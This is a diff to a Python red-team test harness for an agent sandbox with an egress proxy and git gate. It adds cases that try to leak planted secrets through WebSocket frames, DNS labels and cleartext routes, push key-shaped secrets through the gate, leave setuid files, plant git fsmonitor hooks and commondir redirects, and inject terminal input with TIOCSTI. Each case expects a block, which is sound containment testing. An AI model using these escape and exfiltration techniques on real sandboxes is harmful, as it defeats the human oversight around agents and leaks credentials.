@@ -38,7 +38,10 @@ def unhide(h):
 
 P = json.load(open(os.path.join(HERE, "params.json")))
 PORT = P["upstream_port"]
-ALLOWED = "allowed.test"  # route: port PORT (plain) and 443 (bumped), token injected
+TLS_PORT = P["upstream_tls_port"]
+ALLOWED = "allowed.test"  # routes: PORT (plain HTTP, no token), TLS_PORT (HTTPS, token injected)
+ALLOWED_TLS = "%s:%d" % (ALLOWED, TLS_PORT)
+CLEARTEXT = "cleartext.test"  # route: PORT (plain HTTP) with a token: egress must refuse it
 WILD = "wild.test"        # route: *.wild.test on PORT, no auth
 
 
@@ -172,12 +175,11 @@ def second_request_on_same_connection(tunnel):
     must judge every request, not just the connection's first."""
     try:
         if tunnel:
-            s, refused = open_tunnel(ALLOWED + ":443")
+            s, refused = open_tunnel(ALLOWED_TLS)
             if refused:
                 return refused
             s = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname=ALLOWED)
-            # The route's HTTPS upstream is unreachable (a 502 closes), so the first
-            # request is one egress answers itself without closing: a DLP block.
+            # The first request is one egress answers itself without closing: a DLP block.
             first = ("GET /first HTTP/1.1\r\nHost: %s\r\nX-Custom: %s\r\n\r\n"
                      % (ALLOWED, unhide(P["planted_hex"]["planted-ghp"])))
             second = "GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
@@ -206,23 +208,26 @@ def plain_http_inside_tunnel():
         return err_name(e)
 
 
-def ws_frame(text):
-    data, mask = text.encode(), os.urandom(4)
-    head = bytes([0x81])
+def ws_frame(text, opcode=0x1, fin=True, rsv1=False):
+    data, mask = (text if isinstance(text, bytes) else text.encode()), os.urandom(4)
+    head = bytes([(0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode])
     head += bytes([0x80 | len(data)]) if len(data) < 126 else \
         bytes([0x80 | 126]) + len(data).to_bytes(2, "big")
     return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))
 
 
-def websocket_exfil(payload):
+def websocket_exfil(payload, shape="text"):
     """Upgrade on the allowed route, prove the channel with a harmless frame, then send
-    the secret in a masked frame: egress must cut the stream before it reaches upstream."""
+    the secret in a masked frame: egress must cut the stream before it reaches upstream.
+    `shape`: text (one frame), ping (a control frame), fragment (the secret in a FIN=0
+    frame, then the rest), deflate (offer permessage-deflate, send an RSV1 frame)."""
     try:
         s = socket.create_connection(PROXY, timeout=TIMEOUT)
         key = base64.b64encode(os.urandom(16)).decode()
+        ext = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if shape == "deflate" else ""
         s.sendall(("GET http://%s:%d/ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\n"
-                   "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
-                   "Sec-WebSocket-Version: 13\r\n\r\n" % (ALLOWED, PORT, ALLOWED, PORT, key))
+                   "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\n%s"
+                   "Sec-WebSocket-Version: 13\r\n\r\n" % (ALLOWED, PORT, ALLOWED, PORT, key, ext))
                   .encode())
         status, hdrs, text = recv_head(s)
         if status != 101:
@@ -230,7 +235,15 @@ def websocket_exfil(payload):
         s.sendall(ws_frame("hello"))
         if s.recv(16) != b"\x81\x02ok":
             return "channel-broken"
-        s.sendall(ws_frame("leak=" + payload))
+        if shape == "ping":
+            s.sendall(ws_frame("leak=" + payload, opcode=0x9))
+        elif shape == "fragment":
+            s.sendall(ws_frame("leak=" + payload, fin=False) + ws_frame(" more", opcode=0x0))
+        elif shape == "deflate":
+            z = zlib.compressobj(wbits=-15)
+            s.sendall(ws_frame(z.compress(("leak=" + payload).encode()) + z.flush(), rsv1=True))
+        else:
+            s.sendall(ws_frame("leak=" + payload))
         try:
             echo = s.recv(16)
         except OSError as e:
@@ -288,8 +301,6 @@ def curl(*args):
     return judge_response(int(code), block, body), body
 
 
-HTTPS_BODY_SKIP = ("needs an HTTPS upstream egress trusts: the orchestrator passes no "
-                   "--upstream-ca; the http-*-body cases cover body DLP")
 BLOCK_HOST = ["403:host_not_allowed"]
 BLOCK_HOST_OR_MISMATCH = ["403:host_not_allowed", "403:host_mismatch"]
 # A request egress cannot parse safely is refused outright (SPEC §4.2.1: 400).
@@ -384,9 +395,10 @@ def attack7(hunted):
 # --- the other attacks --------------------------------------------------------------------
 
 def attack_legit():
-    out, body = via_proxy("GET", "http://%s:%d/legit" % (ALLOWED, PORT),
-                          headers={"Authorization": "Bearer agent-placeholder-value"})
-    emit("legit", "python-absolute-form", out, ["200"])
+    # The token route is HTTPS: egress injects the token only inside TLS to the upstream.
+    out, body = via_connect(ALLOWED_TLS, ALLOWED, "GET", "/legit", ALLOWED_TLS,
+                            headers={"Authorization": "Bearer agent-placeholder-value"})
+    emit("legit", "python-bumped", out, ["200"])
     # Harmless bodies pass in every framing the exfiltration cases use, so a 403 there
     # is about the secret, not the shape.
     benign = b"data=hello world"
@@ -399,7 +411,7 @@ def attack_legit():
                            headers=headers, body=body)
         emit("legit", "python-" + tag, out, ["200"])
     out, body = curl("-H", "Authorization: Bearer agent-placeholder-value",
-                     "http://%s:%d/legit-curl" % (ALLOWED, PORT))
+                     "https://%s/legit-curl" % ALLOWED_TLS)
     emit("legit", "curl-env-proxy", out, ["200"])
 
 
@@ -444,12 +456,12 @@ def attack2():
     emit("2", "allowed-url-evil-host-header", out, BLOCK_HOST_OR_MISMATCH)
     out, _ = via_connect("evil.test:443", ALLOWED, "GET", "/spoof", ALLOWED)
     emit("2", "connect-evil-sni-host-allowed", out, BLOCK_HOST)
-    out, _ = via_connect(ALLOWED + ":443", "evil.test", "GET", "/spoof", "evil.test")
+    out, _ = via_connect(ALLOWED_TLS, "evil.test", "GET", "/spoof", "evil.test")
     emit("2", "connect-allowed-inner-evil", out, BLOCK_HOST_OR_MISMATCH)
-    out, _ = via_connect(ALLOWED + ":443", ALLOWED, "GET", "/spoof", "evil.test")
+    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "GET", "/spoof", "evil.test")
     emit("2", "connect-allowed-host-evil", out, BLOCK_HOST_OR_MISMATCH)
     # Inside the tunnel, an absolute-form target naming another host.
-    out, _ = via_connect(ALLOWED + ":443", ALLOWED, "GET", "http://evil.test/abs", ALLOWED)
+    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "GET", "http://evil.test/abs", ALLOWED_TLS)
     emit("2", "connect-allowed-absolute-form-evil", out,
          BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED)
     out, _ = curl("--resolve", "%s:443:127.0.0.1" % ALLOWED, "-H", "Host: " + ALLOWED,
@@ -502,12 +514,8 @@ def attack3(secrets):
                 out, _ = via_proxy(c["method"], "http://%s:%d%s" % (ALLOWED, PORT, c["path"]),
                                    headers=c.get("headers"), body=c.get("body"))
                 emit("3", "http-" + tag, out, BLOCK_DLP)
-                if where == "body":
-                    # egress reads a body only once the upstream is connected, and the
-                    # bottle's egress trusts no loopback HTTPS upstream (no --upstream-ca).
-                    emit("3", "https-" + tag, "not-run", BLOCK_DLP, skip=HTTPS_BODY_SKIP)
-                    continue
-                out, _ = via_connect(ALLOWED + ":443", ALLOWED, c["method"], c["path"], ALLOWED,
+                # Through the bump to the HTTPS upstream (trusted through upstream_ca).
+                out, _ = via_connect(ALLOWED_TLS, ALLOWED, c["method"], c["path"], ALLOWED_TLS,
                                      headers=c.get("headers"), body=c.get("body"))
                 emit("3", "https-" + tag, out, BLOCK_DLP)
 
@@ -541,19 +549,66 @@ def attack3_evasion(secrets):
             emit("3", "evade-%s-%s" % (name, tag), out, BLOCK_DLP)
 
 
+def negotiated_protocol():
+    """The HTTP version curl ends up speaking through the bump when it offers h2."""
+    try:
+        p = subprocess.run(["curl", "-sS", "--http2", "--max-time", str(TIMEOUT), "-o",
+                            "/dev/null", "-w", "%{http_version}",
+                            "https://%s/h2-probe" % ALLOWED_TLS],
+                           capture_output=True, text=True, timeout=TIMEOUT + 5)
+        return p.stdout.strip() or "none"
+    except Exception as e:
+        return err_name(e)
+
+
 def attack3_h2(secrets):
+    """curl --http2 through the bump. Egress offers only http/1.1 until it speaks h2 (issue
+    14), so these cases say which protocol ran instead of passing as h2."""
     ghp = secrets["planted-ghp"]
-    for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED, ghp)]),
-                         ("query", ["https://%s/leak?q=%s" % (ALLOWED, ghp)]),
-                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED])):
+    proto = negotiated_protocol()
+    h2 = proto == "2"
+    emit("3", "h2-negotiated", "http/" + proto, ["http/2"],
+         **({} if h2 else {"skip": "egress negotiated HTTP/%s, not h2: it does not speak h2 "
+                                   "yet (issue 14); the cases below ran over HTTP/%s"
+                                   % (proto, proto)}))
+    for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED_TLS, ghp)]),
+                         ("query", ["https://%s/leak?q=%s" % (ALLOWED_TLS, ghp)]),
+                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS])):
         out, _ = curl("--http2", *extra)
-        emit("3", "h2-curl-planted-ghp-raw-" + where, out, BLOCK_DLP)
+        emit("3", "h2-offered-over-http/%s-planted-ghp-raw-%s" % (proto, where), out, BLOCK_DLP,
+             protocol=proto)
 
 
 def attack3_websocket(secrets):
     for name, secret in secrets.items():
         for enc, v in encodings(secret).items():
             emit("3ws", "ws-frame-%s-%s" % (name, enc), websocket_exfil(v), ["cut"])
+        for shape in ("ping", "fragment", "deflate"):
+            emit("3ws", "ws-%s-%s" % (shape, name), websocket_exfil(secret, shape), ["cut"])
+
+
+def attack_cleartext(secrets):
+    """The token may only travel inside TLS to the upstream (SPEC §4.2.10): a token route
+    reached over plain HTTP is refused, whatever the shape."""
+    BLOCK_CLEAR = ["403:cleartext_credential"]
+    out, _ = via_proxy("GET", "http://%s:%d/clear" % (CLEARTEXT, PORT))
+    emit("cleartext", "absolute-form-plain-route", out, BLOCK_CLEAR)
+    # http:// to the HTTPS route's own port ("http://host:443/").
+    out, _ = via_proxy("GET", "http://%s/clear" % ALLOWED_TLS)
+    emit("cleartext", "absolute-form-to-the-tls-port", out, BLOCK_CLEAR)
+    # Plain HTTP inside a CONNECT tunnel to the token route.
+    try:
+        s, refused = open_tunnel(ALLOWED_TLS)
+        if refused:
+            out = refused
+        else:
+            s.sendall(("GET /clear HTTP/1.1\r\nHost: %s\r\n\r\n" % ALLOWED_TLS).encode())
+            out = judged_answer(s)
+    except Exception as e:
+        out = err_name(e)
+    emit("cleartext", "plain-http-inside-tunnel", out, BLOCK_CLEAR)
+    out, _ = curl("http://%s:%d/clear-curl" % (CLEARTEXT, PORT))
+    emit("cleartext", "curl-env-proxy", out, BLOCK_CLEAR)
 
 
 def dns_query(server, name="example.com", family=socket.AF_INET):
@@ -587,10 +642,14 @@ def attack4(secrets):
          ["curl-connect-403"])
     # A wildcard route would forward any label: only DLP on the host name stops this.
     # (The route token is not tried here: the host side would have to pin its name.)
-    for name in ("planted-ghp", "known-secret"):
-        label = secrets[name]
+    # base32 (DNS folds case, so an encoding must survive lower-casing); of the known secret,
+    # whose encoding fits in one 63-byte label.
+    b32 = base64.b32encode(secrets["known-secret"].encode()).decode().rstrip("=").lower()
+    for name, label in (("planted-ghp", secrets["planted-ghp"]),
+                        ("known-secret", secrets["known-secret"]), ("known-secret-base32", b32)):
         out, _ = via_proxy("GET", "http://%s.%s:%d/" % (label, WILD, PORT))
         emit("4", "wildcard-label-http-" + name, out, BLOCK_DLP)
+        # A CONNECT to the name is refused before any tunnel: the labels are scanned there.
         out, _ = via_connect("%s.%s:%d" % (label, WILD, PORT), label + "." + WILD, "GET", "/",
                              "%s.%s:%d" % (label, WILD, PORT))
         emit("4", "wildcard-label-connect-" + name, out, BLOCK_DLP)
@@ -623,14 +682,97 @@ def attack5():
                        headers={"Content-Type": "application/x-git-receive-pack-request"},
                        body="0000")
     emit("5", "receive-pack-http", out, ["403:git_push_via_proxy"])
-    out, _ = via_connect(ALLOWED + ":443", ALLOWED, "POST", "/org/app.git/git-receive-pack",
-                         ALLOWED, headers={"Content-Type":
+    out, _ = via_connect(ALLOWED_TLS, ALLOWED, "POST", "/org/app.git/git-receive-pack",
+                         ALLOWED_TLS, headers={"Content-Type":
                                            "application/x-git-receive-pack-request"},
                          body="0000")
     emit("5", "receive-pack-https", out, ["403:git_push_via_proxy"])
     out, _ = via_proxy("GET", "http://%s:%d/org/app.git/info/refs?service=git-receive-pack"
                        % (ALLOWED, PORT))
     emit("5", "receive-pack-advertisement", out, ["403:git_push_via_proxy"])
+    # Spellings a lenient server may still route to receive-pack.
+    for target in ("/org/app.git/info/refs?service=git-receive-pac%6b",
+                   "/org/app.git/info/refs?service=GIT-RECEIVE-PACK",
+                   "/org/app.git/git-receive-pack/", "/org/app.git/GIT-RECEIVE-PACK",
+                   "/org/app.git/git-receive-pac%6b"):
+        out, _ = via_proxy("POST", "http://%s:%d%s" % (ALLOWED, PORT, target), body="0000")
+        emit("5", "receive-pack-spelling " + target, out, ["403:git_push_via_proxy"])
+
+
+# --- 5 (git-gate). Push secrets through the gate ------------------------------------------
+
+GIT_DETECTORS = ("secret.aws_access_key_id", "secret.anthropic_api_key", "secret.pem_private_key")
+
+
+def gate_git(*args, cwd=None):
+    """git for the git-gate attack (attack 9 has its own `git`)."""
+    try:
+        p = subprocess.run(["git"] + list(args), cwd=cwd, capture_output=True, text=True,
+                           timeout=90)
+        return p.returncode, p.stdout + p.stderr
+    except Exception as e:
+        return -1, err_name(e)
+
+
+def commit_files(repo, files, message):
+    for name, text in files.items():
+        with open(os.path.join(repo, name), "w") as f:
+            f.write(text)
+    gate_git("add", "-A", cwd=repo)
+    gate_git("commit", "-q", "-m", message, cwd=repo)
+    return gate_git("rev-parse", "HEAD", cwd=repo)[1].strip()
+
+
+def secret_files():
+    s = {k: unhide(v) for k, v in P["git_secrets_hex"].items()}
+    return {"aws.env": "aws_access_key_id = %s\n" % s["git-aws"],
+            "notes.md": "# notes\nx-api-key: %s\n" % s["git-anthropic"],
+            "deploy.pem": s["git-pem"] + "\n"}
+
+
+def judge_refusal(rc, out):
+    if rc == 0:
+        return "pushed"
+    if "pre-receive hook declined" in out and all(d in out for d in GIT_DETECTORS):
+        return "refused-naming-all-three"
+    return "refused-otherwise:" + out.strip().splitlines()[-1][:100] if out.strip() else "failed"
+
+
+def attack_gitgate():
+    if "git_app_url" not in P:
+        emit("gitgate", "git-gate-configured", "no", ["yes"])
+        return
+    # The manifest's ssh URL: the gitconfig rewrites it to the gate (there is no other way
+    # to 127.0.0.1:<sshd port> from inside the bottle).
+    app = "/tmp/gitgate-app"
+    rc, out = gate_git("clone", "-q", P["git_app_url"], app)
+    emit("gitgate", "clone-through-gate", "ok" if rc == 0 else "failed:" + out[-200:], ["ok"])
+    if rc != 0:
+        return
+    clean = commit_files(app, {"feature.txt": "clean work\n"}, "clean work")
+    rc, out = gate_git("push", "origin", "main", cwd=app)
+    emit("gitgate", "clean-push", "ok" if rc == 0 else "failed:" + out[-200:], ["ok"], commit=clean)
+    bad = commit_files(app, secret_files(), "three secret shapes")
+    rc, out = gate_git("push", "origin", "main", cwd=app)
+    emit("gitgate", "push-three-secret-shapes", judge_refusal(rc, out), ["refused-naming-all-three"],
+         secret_commit=bad)
+    # The vault's upstream only records connections (the gate's warm-up fetch at start is
+    # one): a push refused before any upstream contact adds none while it runs; the clean
+    # push after it must add one.
+    vault = "/tmp/gitgate-vault"
+    gate_git("init", "-q", "-b", "main", vault)
+    commit_files(vault, secret_files(), "three secret shapes")
+    start = time.time()
+    rc, out = gate_git("push", P["git_vault_url"], "main", cwd=vault)
+    emit("gitgate", "vault-three-secret-shapes", judge_refusal(rc, out), ["refused-naming-all-three"],
+         start=start, at=time.time())
+    clean_vault = "/tmp/gitgate-vault-clean"
+    gate_git("init", "-q", "-b", "main", clean_vault)
+    commit_files(clean_vault, {"ok.txt": "nothing secret\n"}, "clean")
+    rc, out = gate_git("push", P["git_vault_url"], "main", cwd=clean_vault)
+    emit("gitgate", "vault-clean-push-reaches-upstream",
+         "upstream-error-shown" if rc != 0 and "upstream:" in out else "rc=%d" % rc,
+         ["upstream-error-shown"])
 
 
 def attack6():
@@ -687,6 +829,115 @@ def attack6():
     emit("6", "curl-proxy-admin", out, BLOCK_HOST)
 
 
+# --- 8. files that outlive the bottle (issue 10 item 2) -----------------------------------
+# The host then checks that nothing the agent left in the workspace is root's or setuid.
+
+def attack8():
+    emit("8", "uid-inside", "uid:%d" % os.getuid(), ["uid:1000"])
+    src = open("/bin/true", "rb").read()
+    for case, mode in (("chmod-4755-copy", 0o4755), ("chmod-2755-copy", 0o2755),
+                       ("chmod-6755-copy", 0o6755)):
+        path = os.path.join(HERE, case)
+        with open(path, "wb") as f:
+            f.write(src)
+        try:
+            os.chmod(path, mode)
+            out = "set"
+        except OSError as e:
+            out = "refused:" + err_name(e)
+        emit("8", case, out, ["refused:EPERM"])
+    for case, make in (
+            ("open-creat-4755", lambda p: os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o4755))),
+            ("mknod-regular-4755", lambda p: os.mknod(p, 0o100000 | 0o4755)),
+            ("fchmod-4755", lambda p: (lambda fd: (os.fchmod(fd, 0o4755), os.close(fd)))(
+                os.open(p, os.O_CREAT | os.O_WRONLY, 0o755)))):
+        try:
+            make(os.path.join(HERE, case))
+            out = "set"
+        except OSError as e:
+            out = "refused:" + err_name(e)
+        emit("8", case, out, ["refused:EPERM"])
+
+
+# --- 9. git settings the host would run (issue 10 item 3) ---------------------------------
+# The workspace is a git repository the operator made. The host runs `git status` in it
+# (and in any repository the agent made) afterwards; P["git_marker"] must not appear.
+
+def git(*args):
+    try:
+        p = subprocess.run(["git"] + list(args), cwd=HERE, capture_output=True, text=True,
+                           timeout=TIMEOUT)
+        return "ok" if p.returncode == 0 else "exit-%d" % p.returncode
+    except Exception as e:
+        return err_name(e)
+
+
+def try_write(path, text, mode="a"):
+    try:
+        with open(os.path.join(HERE, path), mode) as f:
+            f.write(text)
+        return "written"
+    except OSError as e:
+        return "refused:" + err_name(e)
+
+
+def attack9():
+    run = "touch " + P["git_marker"]
+    emit("9", "git-works-inside", git("status", "--short"), ["ok"])
+    emit("9", "git-config-fsmonitor", git("config", "core.fsmonitor", run), ["exit-255", "exit-4"])
+    for key in ("core.hooksPath", "core.sshCommand", "alias.st", "filter.x.smudge",
+                "diff.external"):
+        emit("9", "git-config-" + key, git("config", key, run), ["exit-255", "exit-4"])
+    emit("9", "append-to-config", try_write(".git/config", "[core]\n\tfsmonitor = %s\n" % run),
+         ["refused:EROFS", "refused:EACCES", "refused:EPERM"])
+    emit("9", "hook", try_write(".git/hooks/post-checkout", "#!/bin/sh\n%s\n" % run, "w"),
+         ["refused:EROFS", "refused:EACCES", "refused:EPERM"])
+    try:
+        os.rename(os.path.join(HERE, ".git"), os.path.join(HERE, ".git-away"))
+        out = "renamed"
+    except OSError as e:
+        out = "refused:" + err_name(e)
+    emit("9", "replace-dot-git", out, ["refused:EBUSY", "refused:EPERM", "refused:EACCES"])
+    # commondir makes git read config from elsewhere, without an ownership check.
+    os.makedirs(os.path.join(HERE, "evil", "objects"), exist_ok=True)
+    os.makedirs(os.path.join(HERE, "evil", "refs"), exist_ok=True)
+    try_write("evil/HEAD", "ref: refs/heads/master\n", "w")
+    try_write("evil/config", "[core]\n\tfsmonitor = %s\n" % run, "w")
+    try_write(".git/commondir", "../evil\n", "w")
+    deadline = time.monotonic() + 5
+    while os.path.exists(os.path.join(HERE, ".git/commondir")) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    emit("9", "commondir-redirect",
+         "still-there" if os.path.exists(os.path.join(HERE, ".git/commondir")) else "removed",
+         ["removed"])
+    # A repository of the agent's own: safe.directory keeps the host's git out of it.
+    emit("9", "nested-repo", git("init", "-q", "nested"), ["ok"])
+    emit("9", "nested-fsmonitor", git("-C", "nested", "config", "core.fsmonitor", run), ["ok"])
+
+
+# --- the terminal (issue 10 item 1), in a separate interactive `bottle start` -------------
+
+def attack_terminal(marker):
+    import fcntl
+    import termios
+    pushed = 0
+    for c in "touch %s\n" % marker:
+        try:
+            fcntl.ioctl(0, termios.TIOCSTI, c.encode())
+            pushed += 1
+        except OSError:
+            pass
+    # Whatever it pushed lands in the agent's own pty; the host judges the operator's shell.
+    emit("tty", "tiocsti", "pushed-into-own-pty:%d" % pushed,
+         ["pushed-into-own-pty:%d" % len("touch %s\n" % marker), "pushed-into-own-pty:0"])
+    try:
+        fcntl.ioctl(0, 0x541C, bytes([3]))  # TIOCLINUX, TIOCL_PASTESEL
+        out = "pasted"
+    except OSError as e:
+        out = "refused:" + err_name(e)
+    emit("tty", "tioclinux-paste", out, ["refused:ENOTTY", "refused:EINVAL", "refused:EPERM"])
+
+
 def wait_admin_port():
     path = os.path.join(HERE, "admin_port")
     for _ in range(400):
@@ -698,6 +949,9 @@ def wait_admin_port():
 
 
 def main():
+    if sys.argv[1:2] == ["--terminal"]:
+        attack_terminal(sys.argv[2])
+        return
     hunted = [unhide(h) for h in P["hunted_hex"]]
     attack7(hunted)
     secrets = {k: unhide(v) for k, v in P["planted_hex"].items()}
@@ -708,9 +962,13 @@ def main():
     attack3_evasion(secrets)
     attack3_h2(secrets)
     attack3_websocket(secrets)
+    attack_cleartext(secrets)
     attack4(secrets)
     attack5()
+    attack_gitgate()
     attack6()
+    attack8()
+    attack9()
     print(json.dumps({"attack": "done"}), flush=True)
 
 
